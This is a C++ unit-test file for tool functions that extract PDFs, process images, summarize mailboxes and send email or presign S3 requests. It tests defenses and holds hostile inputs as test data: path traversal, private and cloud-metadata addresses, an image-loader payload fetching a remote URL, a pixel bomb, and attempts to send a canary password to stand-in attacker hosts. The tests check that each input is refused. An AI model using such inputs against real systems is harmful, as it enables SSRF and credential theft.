// `pdf-extractor` and `image-processor` with the real programs, `email-summarizer` and what they do with broken and hostile files; and how
// `send-email` and `s3` refuse what must not be called. (Their servers are in tests/e2e/services_test.py.)

#include <gmock/gmock.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdint>

#include "engine/machine/machine.hpp"
#include "functions/detail/page_range.hpp"
#include "functions/testing/bench.hpp"
#include "functions/testing/tiff.hpp"
#include "json/write.hpp"
#include "net/address_policy.hpp"
#include "net/scripted_outbound.hpp"

namespace pawl::functions {
namespace {

using testing::HasSubstr;
using testing::Not;

bool has_program(const char* path) { return access(path, X_OK) == 0; }

/// A PDF of these pages, with a correct table of its objects.
std::string pdf(const std::vector<std::string>& pages, const std::string& title) {
  std::vector<std::string> objects = {"<< /Type /Catalog /Pages 2 0 R >>", "", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
                                      "<< /Title (" + title + ") /Author (Ada) >>"};
  std::string kids;
  for (const std::string& text : pages) {
    const std::string content = "BT /F1 12 Tf 72 720 Td (" + text + ") Tj ET";
    objects.push_back("<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content + "\nendstream");
    objects.push_back("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents " + std::to_string(objects.size()) +
                      " 0 R /Resources << /Font << /F1 3 0 R >> >> >>");
    kids += std::to_string(objects.size()) + " 0 R ";
  }
  objects[1] = "<< /Type /Pages /Kids [" + kids + "] /Count " + std::to_string(pages.size()) + " >>";
  std::string out = "%PDF-1.4\n";
  std::string table = "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (std::size_t i = 0; i < objects.size(); ++i) {
    std::string offset = std::to_string(out.size());
    table += std::string(10 - offset.size(), '0') + offset + " 00000 n \n";
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const std::size_t start = out.size();
  return out + table + "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root 1 0 R /Info 4 0 R >>\nstartxref\n" +
         std::to_string(start) + "\n%%EOF\n";
}

std::string tiff(std::uint32_t width, std::uint32_t height) {
  auto picture = grey_tiff_head(width, height);
  for (std::uint32_t i = 0; i < width * height; ++i) picture += static_cast<char>(static_cast<unsigned char>(i % 251));
  return picture;
}

class Media : public testing::Test {
 protected:
  engine::Outcome pdf_call(const std::string& rest) { return bench_.call("pdf-extractor", R"({"input_path": "a.pdf")" + rest + "}"); }
  engine::Outcome image_call(const std::string& rest) { return bench_.call("image-processor", R"({"input_path": "a.tif")" + rest + "}"); }
  static std::string text(const engine::Outcome& outcome) { return json::to_text(outcome.ok() ? outcome.output : outcome.error); }

  net::ScriptedOutbound outbound_;
  Bench bench_{outbound_};
};

class Pdf : public Media {
 protected:
  void SetUp() override {
    if (!has_program("/usr/bin/pdftotext")) GTEST_SKIP() << "SKIPPED: poppler-utils is not installed";
  }
};

class Pictures : public Media {
 protected:
  void SetUp() override {
    if (!has_program("/usr/bin/vips")) GTEST_SKIP() << "SKIPPED: libvips-tools is not installed";
  }
};

TEST_F(Pdf, F2TextPagesAndMetadataComeOut) {
  bench_.write("a.pdf", pdf({"First page", "Second page", "Third page"}, "Report"));
  const auto all = pdf_call("");
  ASSERT_TRUE(all.ok()) << text(all);
  EXPECT_EQ(all.output.get("num_pages"), json::Value(3));
  EXPECT_EQ(all.output.get("pages_extracted"), json::Value(3));
  EXPECT_THAT(std::string(all.output.get("text").as_string()), HasSubstr("First page"));
  EXPECT_EQ(all.output.get("metadata").get("title"), json::Value("Report"));
  EXPECT_EQ(all.output.get("metadata").get("author"), json::Value("Ada"));
  EXPECT_TRUE(all.output.get("metadata").get("producer").is_null());
  const auto some = pdf_call(R"(, "page_range": "1,3", "extract_metadata": false, "output_path": "out/a.txt")");
  ASSERT_TRUE(some.ok()) << text(some);
  EXPECT_EQ(some.output.find("metadata"), nullptr);
  EXPECT_THAT(bench_.read("out/a.txt"), testing::AllOf(HasSubstr("First"), HasSubstr("Third"), Not(HasSubstr("Second"))));
  EXPECT_EQ(some.output.get("pages").at(1).get("page"), json::Value(3));
  EXPECT_THAT(text(pdf_call(R"(, "page_range": 9)")), HasSubstr("has 3 pages"));
}

TEST_F(Pdf, AFileIsReplacedOnlyOnDemand) {
  bench_.write("a.pdf", pdf({"First page"}, "x"));
  bench_.write("b.txt", "precious");
  EXPECT_THAT(text(pdf_call(R"(, "output_path": "b.txt")")), HasSubstr("exists already"));
  EXPECT_EQ(bench_.read("b.txt"), "precious");
  const auto& function = *bench_.registry.get("pdf-extractor");
  EXPECT_FALSE(function.destroys(*json::parse(R"({"input_path": "a.pdf", "output_path": "b.txt"})")));
  EXPECT_TRUE(function.destroys(*json::parse(R"({"input_path": "a.pdf", "output_path": "b.txt", "overwrite": true})")));
  EXPECT_TRUE(pdf_call(R"(, "output_path": "b.txt", "overwrite": true, "allow_destructive": true)").ok());
  EXPECT_THAT(bench_.read("b.txt"), HasSubstr("First page"));
}

TEST_F(Pdf, BrokenFilesAreErrors) {
  for (const std::string& broken : {std::string("no PDF at all"), std::string(), pdf({"x"}, "x").substr(0, 60)}) {
    bench_.write("a.pdf", broken);
    const auto outcome = pdf_call("");
    ASSERT_FALSE(outcome.ok()) << text(outcome);
    EXPECT_THAT(text(outcome), HasSubstr("validation"));
  }
  EXPECT_THAT(text(bench_.call("pdf-extractor", R"({"input_path": "../a.pdf"})")), HasSubstr("authorization"));
}

TEST(PageRange, IsWrittenAsPeopleDo) {
  const auto range = PageRange::parse("3, 8-9,1").value();
  EXPECT_TRUE(range.contains(8));
  EXPECT_FALSE(range.contains(2));
  EXPECT_EQ(range.first(), 1U);
  EXPECT_EQ(range.last(), 9U);
  EXPECT_TRUE(PageRange::parse("all")->all());
  for (const char* bad : {"0", "5-3", "a", "1,", "-", "1--2", "99999999999"}) EXPECT_TRUE(PageRange::parse(bad).has_error()) << bad;
}

TEST_F(Pictures, F2ArePresentedAndChanged) {
  bench_.write("a.tif", tiff(60, 40));
  const auto info = image_call("");
  ASSERT_TRUE(info.ok()) << text(info);
  EXPECT_EQ(json::to_text(info.output.get("size")), "[60,40]");
  EXPECT_EQ(info.output.get("format"), json::Value("tiff"));
  EXPECT_EQ(info.output.get("mode"), json::Value("b-w"));
  struct Case {
    std::string rest;
    std::string path;
    std::string size;
    std::string format;
  };
  const std::array<Case, 7> cases{
      {{R"("operation": "resize", "width": 30)", "r.png", "[30,20]", "png"},
       {R"("operation": "resize", "width": 10, "height": 30)", "f.jpg", "[10,30]", "jpeg"},
       {R"("operation": "thumbnail", "width": 12, "height": 12)", "t.webp", "[12,8]", "webp"},
       {R"("operation": "convert")", "c.gif", "[60,40]", "gif"},
       {R"("operation": "convert", "format": "jpg", "quality": 20)", "c.picture", "[60,40]", "jpeg"},
       {R"("operation": "rotate", "angle": 270)", "o.tif", "[40,60]", "tiff"},
       {R"("operation": "crop", "left": 50, "top": 30, "width": 10, "height": 10)", "p.png", "[10,10]", "png"}}};
  for (const Case& each : cases) {
    const auto made = image_call(", \"output_path\": \"out/" + each.path + "\", " + each.rest);
    ASSERT_TRUE(made.ok()) << each.rest << text(made);
    const auto looked = bench_.call("image-processor", R"({"input_path": "out/)" + each.path + "\"}");
    EXPECT_EQ(json::to_text(looked.output.get("size")), each.size) << each.rest;
    EXPECT_EQ(looked.output.get("format"), json::Value(each.format)) << each.rest;
  }
  EXPECT_THAT(text(image_call(R"(, "output_path": "q.png", "operation": "crop", "left": 55, "width": 10, "height": 10)")),
              HasSubstr("does not lie within"));
}

TEST_F(Pictures, AFileIsReplacedOnlyOnDemand) {
  bench_.write("a.tif", tiff(6, 4));
  bench_.write("b.png", "precious");
  EXPECT_THAT(text(image_call(R"(, "output_path": "b.png", "operation": "convert")")), HasSubstr("exists already"));
  EXPECT_EQ(bench_.read("b.png"), "precious");
  EXPECT_TRUE(image_call(R"(, "output_path": "b.png", "operation": "convert", "overwrite": true, "allow_destructive": true)").ok());
  EXPECT_THAT(bench_.read("b.png"), HasSubstr("PNG"));
}

// What a file is, its bytes say: a loader for something else (vips has many, SVG and PDF among them) never sees it.
TEST_F(Pictures, OnlyFiveTypesAreLoaded) {
  for (const std::string& other :
       {std::string("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"/>"), pdf({"x"}, "x"), std::string("P5 1 1 255 x"),
        std::string("push graphic-context\nimage over 0,0 0,0 'https://example.org/x'"), std::string()}) {
    bench_.write("a.tif", other);
    EXPECT_THAT(text(image_call("")), HasSubstr("no PNG, JPEG"));
  }
}

TEST_F(Pictures, BombsAndBrokenFilesAreErrors) {
  bench_.write("a.tif", grey_tiff_head(60'000, 60'000));
  EXPECT_THAT(text(image_call(R"(, "output_path": "q.png", "operation": "convert")")), HasSubstr("limit of 100000000 pixels"));
  bench_.write("a.tif", tiff(10, 10));
  EXPECT_THAT(text(image_call(R"(, "output_path": "q.png", "operation": "resize", "width": 20000)")),
              HasSubstr("limit of 100000000 pixels"));
  bench_.write("a.tif", tiff(200, 200).substr(0, 300));
  EXPECT_THAT(text(image_call(R"(, "output_path": "q.png", "operation": "convert")")), HasSubstr("validation"));
  bench_.write("a.tif", std::string("\x89PNG\r\n\x1A\n", 8) + "broken");
  EXPECT_THAT(text(image_call("")), HasSubstr("validation"));
  EXPECT_FALSE(std::filesystem::exists(bench_.root() + "/q.png"));
}

TEST_F(Pictures, TextIsReadOrTheProgramIsNamed) {
  bench_.write("a.tif", tiff(60, 40));
  const auto outcome = image_call(R"(, "operation": "ocr")");
  if (has_program("/usr/bin/tesseract")) {
    ASSERT_TRUE(outcome.ok()) << text(outcome);
    EXPECT_TRUE(outcome.output.get("text").is_string());
    EXPECT_THAT(text(image_call(R"(, "operation": "ocr", "language": "xxx")")), HasSubstr("tesseract"));
  } else {
    EXPECT_THAT(text(outcome), testing::AllOf(HasSubstr("configuration"), HasSubstr("tesseract-ocr")));
  }
}

TEST_F(Media, F2MailsAreSummarizedByTheirOwnSentences) {
  bench_.write(
      "a.mbox",
      "From ada@example.org Tue Nov 25 22:01:00 2025\nFrom: ada@example.org\nSubject: =?utf-8?q?Pl=C3=A4ne?=\n\n"
      "First sentence. Second sentence.\n> quoted\n\n"
      "From bob@example.org Tue Nov 25 22:02:00 2025\nContent-Type: text/html\n\n<p>Only <b>HTML</b> here.</p><script>bad()</script>\n");
  const auto outcome = bench_.call("email-summarizer", R"({"source_path": "a.mbox", "num_sentences": 1})");
  ASSERT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_EQ(outcome.output.get("method"), json::Value("extractive"));
  EXPECT_EQ(outcome.output.get("emails_processed"), json::Value(2));
  const json::Value& first = outcome.output.get("summaries").at(0);
  EXPECT_EQ(first.get("subject"), json::Value("Pl\xC3\xA4ne"));
  EXPECT_EQ(first.get("summary"), json::Value("First sentence."));
  EXPECT_EQ(outcome.output.get("summaries").at(1).get("summary"), json::Value("Only HTML here."));
  EXPECT_EQ(bench_.call("email-summarizer", R"({"source_path": "a.mbox", "max_emails": 1})").output.get("emails_processed"),
            json::Value(1));
  EXPECT_THAT(text(bench_.call("email-summarizer", R"({"source_path": "../a.mbox"})")), HasSubstr("authorization"));
  const auto model = bench_.call("email-summarizer", R"({"source_path": "a.mbox", "model": "large"})");
  EXPECT_THAT(text(model), testing::AllOf(HasSubstr("configuration"), HasSubstr("asks no models")));
}

/// Answers at once, like a scripted model, and says what it was asked.
class Echo final : public engine::Function {
 public:
  [[nodiscard]] const Info& info() const override { return info_; }
  [[nodiscard]] engine::EffectClass effect_class(const json::Value& /*arguments*/) const override { return engine::EffectClass::read; }
  [[nodiscard]] Result<json::Value> plan(const engine::Invocation& /*call*/) const override { return json::Value::array(); }
  [[nodiscard]] engine::Cancel start(engine::Invocation call, engine::Done done) override {
    keys.push_back(call.idempotency_key);
    if (call.arguments.get("model") == json::Value("broken")) {
      done(engine::Outcome::failure(engine::make_error("communication", 502, "No", "the model is away")));
    } else {
      done(engine::Outcome::success(
          json::Value::object({{"content", "It says: " + std::string(call.arguments.get("prompt").as_string().substr(0, 14))}})));
    }
    return {};
  }
  std::vector<std::string> keys;

 private:
  Info info_ = [] {
    Info info;
    info.name = "llm";
    return info;
  }();
};

TEST_F(Media, F2_AModelSummarizesEachMailWhereOneIsNamed) {
  auto made = std::make_unique<Echo>();
  auto& echo = *made;
  bench_.registry.add(std::move(made));
  std::string mails;
  for (int i = 0; i < 1000; ++i) mails += "From a@b Thu Nov 26 10:00:00 2026\nSubject: s\n\nFirst sentence. Second sentence.\n\n";
  mails += "From a@b Thu Nov 26 10:00:00 2026\nSubject: empty\n\n\n";
  bench_.write("many.mbox", mails);
  const auto outcome =
      bench_.call("email-summarizer", R"({"source_path": "many.mbox", "model": "m", "max_emails": 1000, "max_length": 20})");
  ASSERT_TRUE(outcome.ok()) << text(outcome);
  EXPECT_EQ(outcome.output.get("method"), json::Value("model"));
  EXPECT_EQ(outcome.output.get("model"), json::Value("m"));
  ASSERT_EQ(outcome.output.get("summaries").size(), 1000U);
  const auto& last = outcome.output.get("summaries").at(999);
  EXPECT_EQ(last.get("summary"), json::Value("It says: First sente"));
  EXPECT_EQ(last.get("summary_length"), json::Value(20));
  EXPECT_EQ(last.find("text"), nullptr);
  EXPECT_EQ(echo.keys.size(), 1000U);
  EXPECT_NE(echo.keys[0], echo.keys[1]);
  EXPECT_THAT(text(bench_.call("email-summarizer", R"({"source_path": "many.mbox", "model": "broken"})")), HasSubstr("the model is away"));
}

constexpr const char* kMail = R"("from_email": "a@example.org", "to_email": "b@example.org", "subject": "s", "body": "b")";

// proves: S4-O10
TEST_F(Media, MailServersAtPrivateAddressesAreRefused) {
  for (const char* host :
       {"127.0.0.1", "localhost", "0.0.0.0", "10.0.0.1", "169.254.169.254", "::1", "::ffff:127.0.0.1", "2130706433", "127.1"}) {
    const auto outcome =
        bench_.call("send-email", std::string(R"({"smtp_host": ")") + host + R"(", "smtp_port": 9, "timeout": 5, )" + kMail + "}");
    EXPECT_THAT(text(outcome), testing::AllOf(HasSubstr("authorization"), HasSubstr("are refused"))) << host;
    const auto mailbox = bench_.call("email-summarizer", std::string(R"({"imap": {"host": ")") + host + R"(", "port": 9, "timeout": 5}})");
    EXPECT_THAT(text(mailbox), testing::AllOf(HasSubstr("authorization"), HasSubstr("are refused"))) << host;
  }
}

TEST_F(Media, CredentialsOfAnIntegrationGoToItsOwnServerOnly) {
  constexpr const char* kSecrets =
      R"({"mail": {"password": "canary-1", "allowed_hosts": ["smtp.example.org"], "secret_fields": ["password"]}})";
  const auto with = [&](const std::string& rest) {
    return bench_.call("send-email", std::string("{") + kMail + R"(, "smtp_port": 9, "timeout": 1, )" + rest + "}", "{}", kSecrets);
  };
  const auto stolen = with(R"("smtp_host": "smtp.attacker.invalid", "smtp_username": "robot", "smtp_password": "canary-1")");
  EXPECT_THAT(text(stolen), testing::AllOf(HasSubstr("http.secret_host"), Not(HasSubstr("canary-1"))));
  const auto read =
      bench_.call("email-summarizer",
                  R"({"imap": {"host": "imap.attacker.invalid", "port": 9, "username": "robot", "password": "canary-1", "timeout": 1}})",
                  "{}", kSecrets);
  EXPECT_THAT(text(read), testing::AllOf(HasSubstr("http.secret_host"), Not(HasSubstr("canary-1"))));
  EXPECT_THAT(text(with(R"("smtp_host": "smtp.attacker.invalid", "attachments": [{"name": "a", "content": "x canary-1 y"}])")),
              HasSubstr("http.secret_host"));
  EXPECT_THAT(text(bench_.call("s3",
                               R"({"operation": "presign", "bucket": "bbb", "key": "k", "endpoint": "https://attacker.invalid",
                                   "access_key_id": "id", "secret_access_key": "canary-1"})",
                               "{}", kSecrets)),
              HasSubstr("http.secret_host"));
}

// proves: S4-M2
TEST_F(Media, ASilentServerIsLeftWhenTimeIsUpOrOnDemand) {
  // The kernel takes the connection, and nobody ever says a word.
  const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t length = sizeof address;
  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&address), length), 0);
  ASSERT_EQ(listen(listener, 10), 0);
  ASSERT_EQ(getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length), 0);
  net::AddressPolicy policy;
  policy.allow_private = true;
  Bench bench(outbound_, {}, &policy);
  const auto arguments = [&](const std::string& timeout) {
    return std::string(R"({"smtp_host": "127.0.0.1", "smtp_port": )") + std::to_string(ntohs(address.sin_port)) +
           ", \"timeout\": " + timeout + ", " + kMail + "}";
  };
  EXPECT_THAT(text(bench.call("send-email", arguments("0.2"))), HasSubstr("timeout"));
  auto [future, cancel] = bench.start("send-email", bench.invocation(arguments("60")));
  cancel();
  EXPECT_THAT(text(future.get()), HasSubstr("was ended"));
  close(listener);
}

}  // namespace
}  // namespace pawl::functions
